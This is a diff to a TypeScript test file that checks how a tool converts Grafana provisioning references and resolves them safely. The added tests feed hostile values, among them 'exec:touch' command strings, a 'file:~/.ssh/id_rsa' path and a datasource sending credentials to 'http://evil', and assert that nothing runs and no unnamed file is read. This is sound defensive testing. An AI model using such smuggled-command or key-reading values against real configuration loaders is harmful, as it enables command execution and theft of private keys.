@@ -3,6 +3,9 @@ import { addContext } from '../../../src/config/file/edit-config.ts';
 import { parseConfig } from '../../../src/config/file/parse-config.ts';
 import { convertText } from '../../../src/config/grafana/grafana-text.ts';
 import { importGrafana } from '../../../src/config/grafana/import-grafana.ts';
+import { plainText } from '../../../src/config/reference.ts';
+import { resolveEndpoint } from '../../../src/config/resolve/resolve-endpoint.ts';
+import { createResolver } from '../../../src/config/resolve/resolve-setting.ts';
 import { fakeFiles } from '../file/fake-files.ts';
 
 /** As Grafana's documentation writes one, with everything that a team adds to it. */
@@ -133,14 +136,95 @@ describe('a Grafana provisioning file', () => {
 
 describe('references', () => {
   it.each([
-    ['$NAME', '${NAME}', true],
-    ['${NAME}', '${NAME}', true],
-    ['$__env{NAME}', '${NAME}', true],
-    ['$__file{/run/secret}', 'file:/run/secret', true],
-    ['http://$HOST:3100', 'http://${HOST}:3100', true],
-    ['pa$$word', 'pa$word', false],
-    ['plain', 'plain', false],
-  ])('%s', (text, expected, isReference) => {
-    expect(convertText(text)).toEqual({ text: expected, isReference });
+    ['$NAME', '${NAME}', ['the variable NAME']],
+    ['${NAME}', '${NAME}', ['the variable NAME']],
+    ['$__env{NAME}', '${NAME}', ['the variable NAME']],
+    ['$__file{/run/secret}', 'file:/run/secret', ['the file /run/secret']],
+    ['http://$HOST:3100', 'http://${HOST}:3100', ['the variable HOST']],
+    ['pa$$word', 'pa$word', []],
+    ['plain', 'plain', []],
+    ['$__file{exec:touch X}', 'file:exec:touch X', ['the file exec:touch X']],
+    ['exec:$NAME', 'text:exec:${NAME}', ['the variable NAME']],
+  ])('%s', (text, expected, refersTo) => {
+    expect(convertText(text)).toEqual({ text: expected, refersTo });
+  });
+
+  it.each([
+    'exec:touch X',
+    'file:~/.ssh/id_rsa',
+    'text:exec:touch X',
+    '$${HOME}',
+    '$${9 no name}',
+    'a$$$${HOME}',
+    '-----BEGIN CERTIFICATE-----',
+  ])('the text %s is read as itself', (text) => {
+    const { text: written, refersTo } = convertText(text);
+    expect(refersTo).toEqual([]);
+    expect(plainText(written)).toBe(text.replaceAll('$$', '$'));
+  });
+
+  it('refuses what cannot be written: a plain $ directly before a variable', () => {
+    expect(() => convertText('$$$NAME')).toThrow(expect.objectContaining({ kind: 'config' }));
+  });
+});
+
+describe('a hostile provisioning file', () => {
+  const hostile = `
+datasources:
+  - name: M
+    type: prometheus
+    url: http://evil
+    basicAuth: true
+    basicAuthUser: 'exec:touch USER'
+    jsonData:
+      httpHeaderName1: X-Scope-OrgID
+      httpHeaderName2: X-Key
+      httpHeaderName3: X-Other
+      tlsAuthWithCACert: true
+      serverName: 'exec:touch NAME'
+    secureJsonData:
+      httpHeaderValue1: 'exec:touch TENANT'
+      httpHeaderValue2: 'file:~/.ssh/id_rsa'
+      httpHeaderValue3: '$__file{/etc/other}'
+      tlsCACert: '$__file{exec:touch CA}'
+      basicAuthPassword: $PASSWORD
+  - { name: C, type: constructor, url: 'http://c' }
+`;
+
+  it('makes nothing run and no other file read than the ones that it names as files', async () => {
+    const { context, references } = importGrafana(hostile, 'ds.yaml', 'prod');
+    const files = fakeFiles();
+    const { path } = addContext({ environment: { HOME: '/home/u' }, files }, context);
+    const settings = parseConfig(files.read(path), path).contexts[0]?.stores.metrics;
+    const ran: unknown[] = [];
+    const read: string[] = [];
+    const resolve = createResolver({
+      environment: { OBSQ_PROD_METRICS_X_KEY: 'k', PASSWORD: 'p' },
+      files: { ...files, read: (name) => `content ${read.push(name)}` },
+      run: async (command) => {
+        ran.push(command);
+        return { ok: true, stdout: 'out' };
+      },
+      directory: '/home/u/.config/obsq',
+    });
+    if (settings === undefined) throw new Error('no settings');
+    const endpoint = await resolveEndpoint(
+      { store: 'metrics', origin: 'context', source: 'context prod', settings },
+      resolve,
+    ).catch((error: unknown) => error);
+    expect(ran).toEqual([]);
+    expect(read.toSorted()).toEqual(['/etc/other', '/home/u/.config/obsq/exec:touch CA']);
+    // Basic authentication ends a user name at a colon, so this name is refused as the text that it is.
+    expect(endpoint).toMatchObject({ kind: 'config', message: expect.stringMatching(/user name/) });
+    expect(context.metrics).toMatchObject({
+      tenant: 'text:exec:touch TENANT',
+      headers: { 'X-Key': '${OBSQ_PROD_METRICS_X_KEY}', 'X-Other': 'file:/etc/other' },
+      tls: { ca: 'file:exec:touch CA', serverName: 'text:exec:touch NAME' },
+    });
+    expect(references).toEqual([
+      'metrics: X-Other from the file /etc/other, sent to http://evil',
+      'metrics: password from the variable PASSWORD, sent to http://evil',
+      'metrics: the CA from the file exec:touch CA',
+    ]);
   });
 });
